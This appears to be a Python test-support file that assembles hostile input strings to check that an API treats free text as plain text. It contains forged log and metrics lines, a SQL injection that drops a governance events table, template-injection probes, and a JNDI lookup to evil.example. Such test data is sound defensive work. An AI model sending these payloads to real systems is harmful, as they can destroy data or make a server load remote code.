"""What somebody may write where the API takes any text, to be taken for more than text."""

from tests.support.notices import HOSTILE

FORGED = "forged"
"""A word that nobody but an attacker says."""

LOG_LINE = f'{{"level": "error", "message": "{FORGED}", "event": "{FORGED}"}}'
SERIES = f"{FORGED}_total 1"

WORDS = (
    f"x\n{LOG_LINE}\r\n{SERIES}\n"
    "'); DROP TABLE governance.ai_governance_events; -- $$ \\copy x \"\n"
    f"{{{{7*7}}}} {{% raise %}} ${{jndi:ldap://evil.example}} %s %(x)s {HOSTILE}"
)
"""Lines of a log and of metrics, SQL, templates, formats, markup."""

WORD = WORDS.replace("\n", " ")[:100]
"""The same where only 100 characters may be written, on one line."""
